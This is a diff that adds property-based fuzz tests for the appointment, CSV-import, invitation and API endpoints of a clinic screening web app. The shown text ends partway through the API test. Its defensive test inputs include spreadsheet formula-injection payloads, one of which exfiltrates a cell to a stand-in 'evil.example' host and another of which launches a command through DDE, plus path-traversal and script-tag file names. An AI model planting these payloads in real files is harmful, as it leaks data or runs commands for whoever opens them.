@@ -15,6 +15,7 @@ One app per test function; each example resets what the previous one changed. Ra
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -28,9 +29,14 @@ from hypothesis import strategies as st
 from hypothesis.control import currently_in_test_context
 from pypdf import PdfReader
 from sqlalchemy import delete, func, select, update
+from werkzeug.datastructures import MultiDict
 
 from screening import current_rules, services
 from screening import questions as qd
+from screening.appointments import services as appointments
+from screening.appointments.api import create_token
+from screening.appointments.booking import AREAS, TREATMENTS, check_booking
+from screening.appointments.models import ApiToken, Appointment, InvitationLink
 from screening.questionnaire.forms import same_name
 from screening.extensions import db
 from screening.models import (
@@ -39,16 +45,19 @@ from screening.models import (
     Draft,
     FlagAcknowledgement,
     KioskSession,
+    Outbox,
     Review,
     StaffSession,
     StaffUser,
     Submission,
+    utcnow,
 )
 from screening.staff import review_services as rs
 from screening.staff.accounts import create_user, open_session
 from tests.answers import clear_answers
 from tests.conftest import make_app
 from tests.fuzz_strategies import (
+    INVALID_UTF8,
     TOKEN,
     answer_problems,
     as_posted,
@@ -89,7 +98,7 @@ def fuzz(examples: int) -> settings:
 
 LIMITS = {"STAFF_LOGIN_LIMIT_ADDRESS": "100000 per hour", "STAFF_LOGIN_LIMIT_ACCOUNT": "100000 per hour",
           "STAFF_LOGIN_LIMIT_ACCOUNT_ALL": "100000 per hour",
-          "START_LIMIT": "100000 per hour", "SUBMIT_LIMIT": "100000 per hour"}
+          "START_LIMIT": "100000 per hour", "SUBMIT_LIMIT": "100000 per hour", "API_LIMIT": "100000 per hour"}
 
 # Every POST endpoint and the test that fuzzes it. A new POST route must be added here, with its fuzzing.
 FUZZED = {
@@ -109,6 +118,18 @@ FUZZED = {
     "staff.arrived": "test_fuzz_desk",
     "staff.kiosk_start": "test_fuzz_desk",
     "staff.deactivate": "test_fuzz_admin_users",
+    "staff.new_appointment": "test_fuzz_new_appointment",
+    "staff.resend": "test_fuzz_appointment_actions",
+    "staff.copy_link": "test_fuzz_appointment_actions",
+    "staff.unlock": "test_fuzz_appointment_actions",
+    "staff.cancel": "test_fuzz_appointment_actions",
+    "staff.attach": "test_fuzz_appointment_actions",
+    "staff.import_csv": "test_fuzz_import_csv",
+    "invitation.check_dob": "test_fuzz_check_dob",
+    "invitation.booking": "test_fuzz_booking_check",
+    "api.create": "test_fuzz_api_create",
+    "staff.create_api_token": "test_fuzz_api_tokens",
+    "staff.revoke_api_token": "test_fuzz_api_tokens",
 }
 
 
@@ -755,15 +776,703 @@ def test_fuzz_staff_session(app, staff, data):
     assert ended == (1 if ok and which == "/staff/logout" else 0)
 
 
+# -- appointments and invitations -------------------------------------------------------------------------
+
+DAY = TODAY + dt.timedelta(days=5)
+PRACTITIONER = "boss@clinic.test"  # the account of the ``staff`` and ``booker`` fixtures, a practitioner too
+EXISTING = "EXIST-1"  # the external_id of the appointment booked before each appointment fuzz
+# A valid booking, with a payload in its free text, as the desk's form, the CSV and the API send it.
+GOOD_BOOKING = {"name": NAME, "date_of_birth": "1990-03-27", "email": EMAIL, "phone": "07700 900123",
+                "date": DAY.isoformat(), "time": "14:30", "treatment": "rf", "areas": ["full_face", "forehead"],
+                "practitioner_email": "", "external_id": ""}
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "=cmd|' /C calc'!A0", "\t=1+1"]
+# Values close to each field's limits, on both sides of them, and cells a spreadsheet would run as a formula.
+BOOKING_ALTERNATIVES = {
+    "name": ["Siobhán O'Neill", "  Ann   Example  ", "a" * 120, "a" * 121, "", "\x00", "Ann\x00Example"],
+    "date_of_birth": [(TODAY - dt.timedelta(days=1)).isoformat(), TODAY.isoformat(), f"{TODAY.year - 120}-01-01",
+                      f"{TODAY.year - 121}-12-31", "1990-02-30", "27/03/1990", "1990-3-27", " 1990-03-27 ", "",
+                      "1" * 10_001],
+    "email": ["", "not-an-address", "a@b.c", "a b@c.de", "x" * 250 + "@b.co", "X@EXAMPLE.ORG"],
+    "phone": ["", "+44 7700 900 982", "123", "07700-900123x", "(020) 7946 0000"],
+    "date": [TODAY.isoformat(), (TODAY - dt.timedelta(days=1)).isoformat(),
+             (TODAY + dt.timedelta(days=732)).isoformat(), (TODAY + dt.timedelta(days=733)).isoformat(),
+             f"{TODAY.year + 1}-13-01", "", "tomorrow"],
+    "time": ["9:05", "00:00", "23:59", "24:00", "14:60", "1430", "14:30:00", "", " 14:30", "1" * 10_001],
+    "treatment": [*TREATMENTS, "", "unknown", "RF", "rf ", "rf" * 5001],
+    "areas": [["full_face"], [], ["full_face", "full_face"], ["nose", "elbows"], ["Full_Face"], [""],
+              list(AREAS)],
+    "practitioner_email": ["", PRACTITIONER, PRACTITIONER.upper(), "nobody@clinic.test"],
+    "external_id": ["", "BK-1001", "bk.1001:a_b", EXISTING, ".BK", "a b", "x" * 100, "x" * 101, "  ", "\x00"],
+}
+FIELD_NAMES = list(GOOD_BOOKING)
+
+
+def typed(text: str) -> str:
+    """Typed text as a booking reads it (read here on its own): control and bidi characters dropped, spaces
+    collapsed."""
+    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+    return " ".join("".join(c for c in text if c.isspace() or (unicodedata.category(c) != "Cc" and c not in bidi))
+                    .split())
+
+
+def iso_date(text: str) -> dt.date | None:
+    if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", text):
+        return None
+    try:
+        return dt.date.fromisoformat(text)
+    except ValueError:
+        return None
+
+
+def booking_faults(raw: dict, *, unknown: bool = True) -> tuple[set[str], tuple | None]:
+    """Read a booking's raw fields on their own: return the fields at fault, and (when there are none) what the
+    booking holds, as a tuple to compare two bookings by."""
+    faults: set[str] = {k for k in raw if k not in FIELD_NAMES} if unknown else set()
+    limits = {"external_id": 100, "name": 120, "email": 254, "phone": 30, "practitioner_email": 254}
+    text = {}
+    for key in FIELD_NAMES:
+        value = raw.get(key)
+        if key == "areas":
+            continue
+        if value is not None and not isinstance(value, str):
+            faults.add(key)
+            continue
+        text[key] = typed(value or "")
+        if len(text[key]) > limits.get(key, 10_000):
+            faults.add(key)
+    for key in ("name", "date_of_birth", "date", "time", "treatment"):
+        if not text.get(key):
+            faults.add(key)
+    dob, day = iso_date(text.get("date_of_birth", "")), iso_date(text.get("date", ""))
+    if dob is None or not (TODAY.year - 120 <= dob.year and dob < TODAY):
+        faults.add("date_of_birth")
+    if day is None or not TODAY <= day <= TODAY + dt.timedelta(days=732):
+        faults.add("date")
+    time = re.fullmatch(r"(\d{1,2}):(\d{2})", text.get("time", ""))
+    if not time or int(time.group(1)) > 23 or int(time.group(2)) > 59:
+        faults.add("time")
+    if text.get("email") and not re.fullmatch(r"[^@\s]+@[^@\s]+\.[^@\s]+", text["email"]):
+        faults.add("email")
+    if text.get("phone") and not re.fullmatch(r"\+?[0-9 ()-]{7,20}", text["phone"]):
+        faults.add("phone")
+    if text.get("treatment") not in TREATMENTS:
+        faults.add("treatment")
+    areas = raw.get("areas")
+    if isinstance(areas, (list, tuple)):
+        areas = [str(a).strip() for a in areas if str(a).strip()]
+    elif isinstance(areas, str) or areas is None:
+        areas = [a for a in re.split(r"[;,\s]+", (areas or "").strip()) if a]
+    else:
+        areas = None
+    if not areas or not set(areas) <= set(AREAS):
+        faults.add("areas")
+    if text.get("practitioner_email") and text["practitioner_email"].lower() != PRACTITIONER:
+        faults.add("practitioner_email")
+    if text.get("external_id") and not re.fullmatch(r"[A-Za-z0-9_:-][A-Za-z0-9._:-]*", text["external_id"]):
+        faults.add("external_id")
+    if faults:
+        return faults, None
+    return faults, (text["name"], dob, text.get("email", ""), text.get("phone", ""), day,
+                    dt.time(int(time.group(1)), int(time.group(2))), text["treatment"],
+                    tuple(dict.fromkeys(areas)), bool(text.get("practitioner_email")))
+
+
+EXISTING_BOOKING = booking_faults(dict(GOOD_BOOKING, external_id=EXISTING))[1]
+
+
+def booking_values(draw, **changes) -> dict:
+    """A booking, valid about half the time: up to 3 of its fields replaced by a value near a limit, a formula or
+    hostile text."""
+    values = dict(GOOD_BOOKING, **changes)
+    for key in draw(st.one_of(st.just(set()), st.sets(st.sampled_from(FIELD_NAMES), max_size=3))):
+        alternative = st.sampled_from(BOOKING_ALTERNATIVES[key])
+        values[key] = draw(st.one_of(alternative, alternative, st.sampled_from(FORMULAS), hostile_text())
+                           if key != "areas" else st.one_of(alternative, st.lists(hostile_text(), max_size=2)))
+    return values
+
+
+def book_appointment(app, **changes) -> tuple[str, int]:
+    """Book an appointment through the services (its invitation sent); return its uid and its link's id."""
+    with app.app_context(), app.test_request_context():
+        booking, errors = check_booking(dict(GOOD_BOOKING, **changes), today=TODAY,
+                                        practitioners=appointments.practitioners(db.session))
+        assert not errors, errors
+        appointment, _created = appointments.book(db.session, booking, source="test")
+        link = db.session.scalar(select(InvitationLink.id).where(InvitationLink.appointment_id == appointment.id))
+        return appointment.uid, link
+
+
+def drop_appointments(app, keep: str | None = None) -> None:
+    """Delete every appointment (but ``keep``'s uid) and its links: the next example starts from the same rows."""
+    with app.app_context():
+        gone = select(Appointment.id).where(Appointment.uid != (keep or ""))
+        db.session.execute(delete(InvitationLink).where(InvitationLink.appointment_id.in_(gone)))
+        db.session.execute(delete(Appointment).where(Appointment.uid != (keep or "")))
+        db.session.commit()
+
+
+def appointment_state(app, uid: str) -> dict:
+    with app.app_context():
+        a = appointments.by_uid(db.session, uid)
+        return {"cancelled": a.cancelled_at is not None, "locked": a.locked_at is not None,
+                "failures": a.dob_failures, "submission_id": a.submission_id, "draft_id": a.draft_id,
+                "mismatch": a.mismatch, "links": count(app, InvitationLink, InvitationLink.appointment_id == a.id),
+                "outbox": count(app, Outbox, Outbox.appointment_id == a.id)}
+
+
+@pytest.fixture
+def booker(app):
+    """A client signed in with every role (the desk acts, the account is a practitioner too), and an appointment
+    already booked with the external_id EXISTING."""
+    user_id = add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
+    uid, _link = book_appointment(app, external_id=EXISTING)
+    client = staff_client(app, user_id)
+    return {"client": client, "existing": uid, "token": token(client, "/staff/appointments/new")}
+
+
+@fuzz(25)
+@given(data=st.data())
+def test_fuzz_new_appointment(app, booker, data):
+    """A post books one appointment (303) exactly when an independent reading of it says it is valid (the same
+    booking again as EXISTING books nothing new); anything else is a 400 that shows what was typed, storing
+    nothing."""
+    client = booker["client"]
+    values = booking_values(data.draw)
+    pairs = [("csrf_token", booker["token"])] + pairs_of(values)
+    pairs = mutate(data.draw, pairs, FIELD_NAMES, [*TREATMENTS, *AREAS, PRACTITIONER, DAY.isoformat()], [])
+    before = count(app, Appointment)
+    response = post_form(client, "/staff/appointments/new", pairs)
+    check(response, "new appointment")
+    raw = {k: first(pairs, k) or "" for k in FIELD_NAMES if k != "areas"}
+    raw["areas"] = [as_posted(v) for k, v in pairs if as_posted(k) == "areas"]
+    faults, booking = booking_faults(raw)
+    replay = typed(raw["external_id"]) == EXISTING
+    valid = first(pairs, "csrf_token") == booker["token"] and not faults and (not replay or booking == EXISTING_BOOKING)
+    created = count(app, Appointment) - before
+    assert (response.status_code == 303) == valid, (response.status_code, valid, faults, raw)
+    if valid:
+        assert created == (0 if replay else 1), created
+        assert response.location.startswith("/staff/appointments/"), response.location
+        check(client.get(response.location), "appointment page")
+        with app.app_context():
+            a = appointments.by_uid(db.session, response.location.rsplit("/", 1)[1])
+            assert (a.client_name, dt.date.fromisoformat(a.client_dob), a.client_email, a.client_phone,
+                    a.appointment_date, a.appointment_time, a.treatment_variant, tuple(a.areas),
+                    a.practitioner_id is not None) == booking
+        drop_appointments(app, keep=booker["existing"])
+    else:
+        assert response.status_code == 400 and created == 0, (response.status_code, created)
+        if first(pairs, "csrf_token") == booker["token"]:
+            assert "There is a problem" in response.text
+            check_round_trip(response, pairs, "new appointment")
+
+
+@fuzz(25)
+@given(data=st.data())
+def test_fuzz_appointment_actions(app, staff, data):
+    """Resend, copy a link, unlock, cancel and attach a screening, on an open, cancelled or screened appointment
+    or on an unknown one: each does what it says only with the right token and in the state that allows it."""
+    client = staff["client"]
+    if "uid" not in staff:
+        staff["uid"] = book_appointment(app)[0]
+    uid = staff["uid"]
+    with app.app_context():
+        submissions = {reference: db.session.scalar(select(Submission.id).where(Submission.reference == reference))
+                       for reference in (staff["today"], staff["later"], staff["signed"])}
+    state = data.draw(st.sampled_from(["open", "open", "cancelled", "screened"]), label="state")
+    email = data.draw(st.sampled_from([EMAIL, ""]), label="email")
+    with app.app_context():  # the appointment in that state, its link locked by wrong dates of birth
+        a = appointments.by_uid(db.session, uid)
+        a.cancelled_at = utcnow() if state == "cancelled" else None
+        a.submission_id = submissions[staff["signed"]] if state == "screened" else None
+        a.client_email, a.locked_at, a.dob_failures, a.mismatch = email, utcnow(), 5, ""
+        db.session.commit()
+    action = data.draw(st.sampled_from(["resend", "link", "unlock", "cancel", "attach"]), label="action")
+    target = data.draw(st.one_of(st.just(uid), st.just(uid), st.just(uid),
+                                 st.sampled_from([uid.upper(), uid[:-1], uid + "0", "0", "-1", "%00", "a\x00b",
+                                                  uid + "\x00", "9" * 40]),
+                                 hostile_text().filter(lambda t: t not in ("", ".", ".."))))
+    pairs = [("csrf_token", staff["token"])]
+    if action == "attach":
+        reference = data.draw(st.one_of(st.sampled_from([staff["today"], staff["today"].lower().replace("-", " "),
+                                                         staff["later"], staff["signed"], "", "K7QM-4TXR",
+                                                         " " * 20 + staff["today"]]), hostile_text()))
+        pairs.append(("reference", reference))
+    if data.draw(st.booleans()):  # half the time as the page posts it
+        pairs = mutate(data.draw, pairs, ["csrf_token", "reference"], [staff["today"]], [])
+    before = appointment_state(app, uid)
+    response = post_form(client, f"/staff/appointments/{quote(target, safe='')}/{action}", pairs)
+    check(response, action)
+    after = appointment_state(app, uid)
+    ok = first(pairs, "csrf_token") == staff["token"]
+    if not ok:  # the CSRF check comes first: an unknown appointment too is a 400 (a 404 only off the routes)
+        assert response.status_code in (400, 404, 405) and after == before, response.status_code
+        return
+    if target != uid:
+        assert response.status_code in (404, 405) and after == before, (response.status_code, target)
+        return
+    changed = {k: after[k] for k in after if after[k] != before[k]}
+    if action == "resend":
+        sent = state == "open" and bool(email)
+        assert response.status_code == 303, response.status_code
+        assert changed == ({"links": before["links"] + 1, "outbox": before["outbox"] + 1} if sent else {}), changed
+    elif action == "link":
+        if state == "open":
+            assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
+            assert re.search(r"/i/[A-Za-z0-9_-]{40,}", response.text), "the new link is shown"
+            assert changed == {"links": before["links"] + 1}, changed
+        else:
+            assert response.status_code == 409 and changed == {}, (response.status_code, changed)
+    elif action == "unlock":
+        assert response.status_code == 303 and changed == {"locked": False, "failures": 0}, changed
+    elif action == "cancel":
+        assert response.status_code == 303
+        assert changed == ({} if state == "cancelled" else {"cancelled": True}), changed
+    else:
+        wanted = services.normalise_reference(as_posted(first(pairs, "reference") or "")[:20])
+        attached = submissions.get(wanted) if state != "screened" else None
+        assert response.status_code == 303
+        # An attached screening also marks the booking facts its answers differ from.
+        assert changed.get("submission_id") == attached and set(changed) <= {"submission_id", "mismatch"}, \
+            (changed, wanted)
+    check(client.get(f"/staff/appointments/{uid}"), "appointment after " + action)  # its flash message
+
+
+def csv_bytes(draw) -> tuple[bytes, int | None, str]:
+    """A CSV file and the appointments it must import (None: it must be refused as a whole), and what it is.
+
+    Rows are booking values under the required columns and some optional ones, in any order; the file is then
+    left as it is, or broken: empty, binary, not UTF-8, a line over the csv module's field limit, an unknown,
+    missing or repeated column, or a line with more values than the header."""
+    kind = draw(st.one_of(st.just("rows"), st.sampled_from(["rows", "empty", "binary", "not utf-8", "utf-16",
+                                                            "huge line", "unknown column", "missing column",
+                                                            "repeated column", "extra value"])))
+    if kind == "empty":
+        return draw(st.sampled_from([b"", b"\n\n", b"  \r\n", b"\xef\xbb\xbf"])), None, kind
+    if kind == "binary":
+        return draw(st.binary(min_size=1, max_size=300)), None, kind
+    required = ["name", "date_of_birth", "date", "time", "treatment", "areas"]
+    optional = draw(st.lists(st.sampled_from(["email", "phone", "practitioner_email", "external_id"]), unique=True))
+    columns = draw(st.permutations(required + optional))
+    rows = [booking_values(draw, external_id=f"BK-{i}") for i in range(draw(st.sampled_from([1, 2, 3, 0])))]
+    if draw(st.booleans()):  # the existing appointment's row, as exported again
+        rows.insert(draw(st.integers(0, len(rows))), dict(GOOD_BOOKING, external_id=EXISTING))
+        columns = columns if "external_id" in columns else [*columns, "external_id"]
+    header = list(columns)
+    if kind == "unknown column":
+        header.insert(draw(st.integers(0, len(header))), draw(st.sampled_from(["Name", "dob", "notes", "", "=1+1"])))
+    elif kind == "missing column":
+        header.remove(draw(st.sampled_from(required)))
+    elif kind == "repeated column":
+        header.append(draw(st.sampled_from(header)))
+    cells = [[";".join(row[c]) if c == "areas" and isinstance(row[c], list) else row[c] for c in columns]
+             for row in rows]
+    if kind == "extra value":
+        cells.append([*cells[0], "x"] if cells else ["a"] * (len(header) + 1))
+    if kind == "huge line":
+        cells.append(["x" * 140_000] * 1 + [""] * (len(header) - 1))
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
+    writer.writerow(f" {c}" if c == "time" and draw(st.booleans()) else c for c in header)  # spaces are trimmed
+    writer.writerows(cells)
+    text = out.getvalue()
+    data = (("\ufeff" if draw(st.booleans()) else "") + text).encode("utf-8")
+    if kind == "not utf-8":
+        cut = draw(st.integers(0, len(data)))
+        return data[:cut] + draw(st.sampled_from(INVALID_UTF8)) + data[cut:], None, kind
+    if kind == "utf-16":
+        return text.encode("utf-16"), None, kind
+    if kind != "rows":
+        return data, None, kind
+    # Every row must be valid, with external_ids unique, and EXISTING's row the same as booked; it is then left
+    # as it is, and the others are created.
+    expected, seen = 0, set()
+    for row in cells:
+        faults, booking = booking_faults(dict(zip(columns, row)))  # as the file is read back, by column
+        external = typed(row[columns.index("external_id")]) if "external_id" in columns else ""
+        if faults or (external and external in seen):
+            return data, None, "invalid rows"
+        if external:
+            seen.add(external)
+        if external == EXISTING:
+            if booking != EXISTING_BOOKING:
+                return data, None, "a conflicting row"
+        else:
+            expected += 1
+    return data, (expected if rows else None), "valid rows" if rows else "no rows"
+
+
+@fuzz(25)
+@given(data=st.data())
+def test_fuzz_import_csv(app, booker, data):
+    """A file imports (303) all its rows or none: exactly when every row is valid by an independent reading of
+    it; a broken or invalid file, or a missing one, is a 400 that lists the problems, and nothing is stored."""
+    client = booker["client"]
+    content, expected, kind = csv_bytes(data.draw)
+    event(kind)
+    name = data.draw(st.sampled_from(["bookings.csv", "../../etc/passwd", "<script>x.csv", "a.xlsx",
+                                      ""]))  # "": no file chosen
+    pairs = [("csrf_token", booker["token"])]
+    if data.draw(st.booleans()):  # half the time a good token: the file is read
+        pairs = mutate(data.draw, pairs, ["csrf_token", "file"], [], [])
+    body = [(as_posted(k), as_posted(v)) for k, v in pairs]
+    sent = data.draw(st.sampled_from(["file", "file", "file", "none", "as text", "twice"]))
+    if sent in ("file", "twice"):
+        body.append(("file", (io.BytesIO(content), name)))
+    if sent == "twice":
+        body.append(("file", (io.BytesIO(b"name\n"), "second.csv")))
+    if sent == "as text":
+        body.append(("file", content.decode("utf-8", "replace")))
+    before = count(app, Appointment)
+    response = client.post("/staff/appointments/import", data=MultiDict(body), content_type="multipart/form-data")
+    check(response, "import")
+    ok = first(pairs, "csrf_token") == booker["token"]
+    created = count(app, Appointment) - before
+    if ok and sent in ("file", "twice") and name and expected is not None:
+        assert response.status_code == 303 and created == expected, (response.status_code, created, expected, kind)
+        check(client.get(response.location), "appointments")
+        drop_appointments(app, keep=booker["existing"])
+    else:
+        assert response.status_code == 400 and created == 0, (response.status_code, created, kind, sent)
+        if ok:  # the problems, each on a line of the table
+            assert "Nothing was imported" in response.text and "<tbody><tr>" in response.text, kind
+
+
+@pytest.fixture
+def invited(app):
+    """An open appointment (date of birth 1990-03-27) and the id of its invitation link."""
+    uid, link = book_appointment(app)
+    return {"uid": uid, "link": link}
+
+
+def follow_link(client, link_id: int, passed: bool = False) -> None:
+    """Give the client's session the link, as following it does (without the link's rate limit)."""
+    with client.session_transaction() as session:
+        session.clear()
+        session["invitation"] = link_id
+        if passed:
+            session["invitation_passed"] = link_id
+
+
+def number(text: str) -> int | None:
+    try:
+        return int(text) if text.isdigit() else None
+    except ValueError:
+        return None
+
+
+@fuzz(25)
+@given(data=st.data())
+def test_fuzz_check_dob(app, invited, data):
+    """A real date of birth that is not the booking's counts a try, and the 5th locks the link (403); the right
+    one opens the booking (and resets the count); anything that is not a date counts nothing."""
+    failures = data.draw(st.sampled_from([0, 4, 1, 2, 3]), label="failures")
+    locked = data.draw(st.sampled_from([False] * 7 + [True]), label="locked")
+    with app.app_context():
+        a = appointments.by_uid(db.session, invited["uid"])
+        a.dob_failures, a.locked_at, a.draft_id, a.opened_at = failures, utcnow() if locked else None, None, None
+        db.session.commit()
+    client = app.test_client()
+    follow_link(client, invited["link"])
+    good = token(client, "/")
+    which = data.draw(st.sampled_from(["right", "wrong", "wrong", "parts"]), label="which")
+    if which == "right":
+        day, month, year = data.draw(st.sampled_from([("27", "3", "1990"), ("27", "03", "1990"),
+                                                      (" 27", "3 ", "1990")]))
+    elif which == "wrong":
+        wrong = data.draw(st.dates(dt.date(TODAY.year - 120, 1, 1), TODAY).filter(lambda d: d != dt.date(1990, 3, 27)))
+        day, month, year = str(wrong.day), str(wrong.month), str(wrong.year)
+    else:
+        day, month, year = (data.draw(st.one_of(st.sampled_from(choices), hostile_text())) for choices in (
+            ["27", "1", "31", "29", "", " 27 ", "027", "٢٧"], ["3", "03", "2", "13", "", "²"],
+            ["1990", "1991", "1899", "90", "", str(TODAY.year + 1), "१९९०"]))
+    pairs = [("csrf_token", good), ("dob-day", day), ("dob-month", month), ("dob-year", year)]
+    if data.draw(st.booleans()):
+        pairs = mutate(data.draw, pairs, ["csrf_token", "dob-day", "dob-month", "dob-year", "dob-unknown", "dob"],
+                       ["1", "12", "1990"], [])
+    before = appointment_state(app, invited["uid"])
+    response = post_form(client, "/invitation", pairs)
+    check(response, "check dob")
+    after = appointment_state(app, invited["uid"])
+    if first(pairs, "csrf_token") != good:  # the CSRF check comes first, locked or not
+        assert response.status_code == 400 and after == before, response.status_code
+        return
+    if locked:
+        assert response.status_code == 403 and after == before, response.status_code
+        return
+    d, m, y = (number((first(pairs, f"dob-{p}") or "").strip()) for p in ("day", "month", "year"))
+    try:
+        date = dt.date(y, m, d) if None not in (d, m, y) and len((first(pairs, "dob-year") or "").strip()) == 4 \
+            else None
+    except ValueError:
+        date = None
+    if date is not None and not (1900 <= date.year and TODAY.year - 120 <= date.year and date <= TODAY):
+        date = None
+    event(f"check dob: {'no date' if date is None else 'right' if date == dt.date(1990, 3, 27) else 'wrong'}")
+    if date is None:
+        assert response.status_code == 400 and after == before, (response.status_code, d, m, y)
+        check_round_trip(response, pairs, "check dob")
+    elif date == dt.date(1990, 3, 27):
+        assert response.status_code == 303 and response.location.endswith("/invitation/booking")
+        assert after["failures"] == 0 and after["draft_id"] is not None and not after["locked"]
+    elif failures + 1 == 5:
+        assert response.status_code == 403 and "This link is locked" in response.text
+        assert after["failures"] == 5 and after["locked"]
+        other = app.test_client()
+        follow_link(other, invited["link"])
+        assert other.get("/invitation").status_code == 403, "the link is locked, for every device"
+    else:
+        assert response.status_code == 400 and f"{5 - failures - 1} tries left" in response.text
+        assert after == dict(before, failures=failures + 1)
+
+
+@fuzz(12)
+@given(data=st.data())
+def test_fuzz_booking_check(app, invited, data):
+    """Only "right" goes on to the questions and only "wrong" marks the booking as disputed; anything else is a
+    400 that says what to select."""
+    client = app.test_client()
+    with app.app_context():
+        a = appointments.by_uid(db.session, invited["uid"])
+        a.mismatch = ""
+        draft = appointments.start_screening(db.session, a, dt.timedelta(hours=1))
+    follow_link(client, invited["link"], passed=True)
+    with client.session_transaction() as session:
+        session["draft"] = draft
+    good = token(client, "/invitation/booking")
+    facts = data.draw(st.one_of(st.sampled_from(["right", "wrong"]),
+                                st.sampled_from(["right", "wrong", "", "Right", "right ", "yes"]), hostile_text()))
+    pairs = mutate(data.draw, [("csrf_token", good), ("facts", facts)], ["csrf_token", "facts"], ["right", "wrong"],
+                   [])
+    before = appointment_state(app, invited["uid"])
+    response = post_form(client, "/invitation/booking", pairs)
+    check(response, "booking")
+    after = appointment_state(app, invited["uid"])
+    answer = first(pairs, "facts") if first(pairs, "csrf_token") == good else None
+    if answer == "right":
+        assert response.status_code == 302 and "/q/" in response.location and after == before
+    elif answer == "wrong":
+        assert response.status_code == 302 and response.location.endswith("/q/about-you")
+        assert after == dict(before, mismatch="client")
+    else:
+        assert response.status_code == 400 and after == before, response.status_code
+        if first(pairs, "csrf_token") == good:
+            assert "Select yes if these details are right" in response.text
+
+
+def check_json(response, what: str) -> None:
+    """An API response: never a 5xx, JSON (problem details for an error) that no browser sniffs as a page.
+
+    The API gives back what it was sent, payloads included, as JSON: ``check``'s "nothing posted becomes
+    markup" holds through the content type and ``nosniff``, not by escaping."""
+    if currently_in_test_context():
+        event(f"{what}: {response.status_code}")
+    assert response.status_code < 500, (what, response.status_code, response.get_data()[:300])
+    assert response.mimetype in ("application/json", "application/problem+json"), response.mimetype
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    json.loads(response.get_data())
+
+
+def json_value() -> st.SearchStrategy:
+    """Any JSON value: hostile text, numbers (also huge, NaN and infinite), booleans, null, lists, objects."""
+    leaf = st.one_of(hostile_text(), st.integers(), st.integers(-2**70, 2**70), st.floats(), st.booleans(),
+                     st.none())
+    return st.recursive(leaf, lambda inner: st.one_of(st.lists(inner, max_size=3),
+                                                      st.dictionaries(hostile_text(), inner, max_size=3)),
+                        max_leaves=6)
+
+
+def api_body(draw) -> tuple[bytes, object]:
+    """A request body and what it holds (``ValueError`` when it is not JSON at all)."""
+    kind = draw(st.sampled_from(["booking", "booking", "booking", "booking", "other json", "not json", "deep"]))
+    if kind == "not json":
+        raw = draw(st.one_of(st.sampled_from([b"", b"{", b'{"name": }', b"\xff\xfe{}", b"{'a': 1}", b"NaN]",
+                                              "\ud800".encode("utf-8", "surrogatepass"), b'{"a": 1} x']),
+                             st.binary(max_size=50)))
+    elif kind == "deep":
+        depth = draw(st.sampled_from([100, 5000, 50_000]))
+        inner = "[" * depth + "]" * depth
+        raw = draw(st.sampled_from([inner, '{"name": ' + inner + "}", '{"a":' * depth + "1" + "}" * depth]))
+        raw = raw.encode()
+    else:
+        if kind == "booking":
+            value = booking_values(draw)
+            value["external_id"] = draw(st.one_of(st.sampled_from(["BK-1", "BK-2", EXISTING]),
+                                                  st.sampled_from([value["external_id"], "  ", "\x00", "\u200e"])))
+            if draw(st.booleans()):
+                value["areas"] = ";".join(value["areas"]) if isinstance(value["areas"], list) else value["areas"]
+            for _ in range(draw(st.integers(0, 2))):
+                op = draw(st.sampled_from(["type", "drop", "add", "surrogate"]))
+                if op == "type":
+                    value[draw(st.sampled_from(FIELD_NAMES))] = draw(json_value())
+                elif op == "surrogate":  # JSON may escape half of a UTF-16 pair: a str no database can store
+                    key = draw(st.sampled_from(["name", "email", "phone", "external_id"]))
+                    value[key] = draw(st.sampled_from(["Ann \ud800 Example", "\udc80", "x\udbff@example.org",
+                                                       "BK-\ud83d"]))
+                elif op == "drop":
+                    value.pop(draw(st.sampled_from(FIELD_NAMES)), None)
+                else:
+                    value[draw(st.one_of(st.sampled_from(["Name", "notes", "", "__proto__", "id"]), hostile_text()))] \
+                        = draw(json_value())
+        else:
+            value = draw(json_value())
+        raw = json.dumps(value, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
+    try:
+        return raw, json.loads(raw or b"null")
+    except (ValueError, RecursionError) as exc:
+        return raw, exc
+
+
+@pytest.fixture
+def api(app):
+    """The bearer token of an integration, and an appointment it booked with the external_id EXISTING."""
+    add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
+    with app.app_context():
+        bearer = create_token(db.session, "fuzz")
+    uid, _link = book_appointment(app, external_id=EXISTING)
+    return {"headers": {"Authorization": f"Bearer {bearer}"}, "existing": uid}
+
+
+@fuzz(30)
+@given(data=st.data())
+def test_fuzz_api_create(app, api, data):
+    """A create answers 201 (a new appointment), 200 (the same as EXISTING), 409 (EXISTING's id, another booking),
+    422 naming exactly the fields at fault, 400 (not a JSON object) or 415 (not JSON): never a 500, an error always
+    as problem+json, and a row stored only with a 201."""
+    client = app.test_client()
+    raw, value = api_body(data.draw)
+    ctype = data.draw(st.one_of(st.just("application/json"), st.sampled_from([
+        "application/json", "application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded",
+        "application/problem+json", "multipart/form-data; boundary=x", None])))
+    headers = dict(api["headers"])
+    if data.draw(st.sampled_from([False] * 7 + [True]), label="another token"):
+        headers["Authorization"] = data.draw(st.sampled_from(["", "Bearer", "Bearer ", "Basic eDp5", "Bearer scr_x",
+                                                              headers["Authorization"].lower(),
+                                                              headers["Authorization"] + "x"]))
+    before = count(app, Appointment)
+    response = client.post("/api/v1/appointments", data=raw, headers=headers,
+                           **({"content_type": ctype} if ctype else {}))
+    check_json(response, "api create")
+    created = count(app, Appointment) - before
+    authorised = headers["Authorization"] in (api["headers"]["Authorization"],
+                                              "bearer " + api["headers"]["Authorization"][7:])
+    if len(raw) > 256 * 1024:  # the app's MAX_CONTENT_LENGTH (a body of another type may be refused unread)
+        expected = response.status_code if response.status_code == 415 and \
+            (ctype or "").split(";")[0] != "application/json" else 413
+    elif (ctype or "").split(";")[0] != "application/json":
+        expected = 415  # the app refuses a body that is not JSON before the API reads the token
+    elif not authorised:
+        expected = 401
